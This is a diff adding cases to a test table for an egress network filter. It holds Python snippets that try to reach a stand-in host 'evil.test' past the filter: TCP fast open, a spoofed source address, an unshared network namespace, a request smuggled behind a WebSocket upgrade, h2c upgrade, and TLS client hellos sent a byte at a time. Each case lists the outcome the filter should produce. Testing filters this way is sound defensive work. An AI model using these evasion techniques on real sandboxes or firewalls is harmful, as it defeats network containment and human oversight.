@@ -233,6 +233,24 @@ export const CELLS: readonly Cell[] = [
     attempt: 'r = ask_tcp("evil.test", 1, "8.8.8.8")',
     ...denied("no-rule"),
   },
+  {
+    name: "another name, with content in the first packet (fast open)",
+    attempt:
+      's = socket.socket(); s.settimeout(20)\ntry: s.sendto(b"hello", 0x20000000, (socket.gethostbyname("evil.test"), {good}))\nexcept BlockingIOError: pass\nr = said(s.recv(9))',
+    ...denied("no-rule"),
+  },
+  {
+    name: "another name, from an address that is none of this machine's",
+    attempt:
+      's = socket.socket(); s.settimeout(20); s.setsockopt(0, 15, 1); s.bind(("8.8.8.8", 0)); s.connect((socket.gethostbyname("evil.test"), {good})); r = said(talk(s, "hello"))',
+    outcome: "no route",
+  },
+  {
+    name: "an allowed name, from a network namespace of its own",
+    attempt:
+      'import ctypes; to = (socket.gethostbyname("good.test"), {good}); ctypes.CDLL(None).unshare(0x40000000); s = socket.create_connection(to, 20); r = said(talk(s, "hello"))',
+    outcome: "no route",
+  },
   { name: "DNS of somebody else, over TLS", attempt: 'r = tcp("8.8.8.8", 853)', ...denied("no-rule") },
   { name: "DNS of somebody else, over HTTPS", attempt: 'r = tcp("8.8.8.8", 443)', ...denied("no-rule") },
   { name: "private addresses: 10/8", attempt: 'r = tcp("10.0.0.1", 80)', ...denied("special-purpose") },
@@ -401,6 +419,20 @@ export const CELLS: readonly Cell[] = [
     needs: "root",
   },
   {
+    name: "a second request to another host, behind a WebSocket that the server refuses",
+    attempt:
+      'r = web("good.test", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n" + HTTP % "evil.test")',
+    ...closed("other-host"),
+    needs: "root",
+  },
+  {
+    name: "HTTP that is to become HTTP/2",
+    attempt:
+      'r = web("good.test", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n")',
+    ...closed("ambiguous-request"),
+    needs: "root",
+  },
+  {
     name: "a proxy's CONNECT",
     attempt: 'r = web("good.test", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n")',
     ...closed("not-http"),
@@ -417,6 +449,20 @@ export const CELLS: readonly Cell[] = [
     attempt:
       'import ssl; c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); b = c.wrap_bio(i, o, server_hostname="good.test")\ntry: b.do_handshake()\nexcept ssl.SSLWantReadError: pass\ns = socket.create_connection(("good.test", 443), 20); s.sendall(o.read()); r = said(s.recv(9))',
     ...reached,
+    needs: "root",
+  },
+  {
+    name: "TLS to the allowed name, a byte at a time",
+    attempt:
+      'import ssl; c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); b = c.wrap_bio(i, o, server_hostname="good.test")\ntry: b.do_handshake()\nexcept ssl.SSLWantReadError: pass\ns = socket.create_connection(("good.test", 443), 20); s.setsockopt(6, 1, 1)\nfor byte in o.read(): s.sendall(bytes([byte]))\nr = said(s.recv(9))',
+    ...reached,
+    needs: "root",
+  },
+  {
+    name: "TLS to another name, a byte at a time",
+    attempt:
+      'import ssl; c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); b = c.wrap_bio(i, o, server_hostname="evil.test")\ntry: b.do_handshake()\nexcept ssl.SSLWantReadError: pass\ns = socket.create_connection(("good.test", 443), 20); s.setsockopt(6, 1, 1)\nfor byte in o.read(): s.sendall(bytes([byte]))\nr = said(s.recv(9))',
+    ...closed("other-server-name"),
     needs: "root",
   },
   {
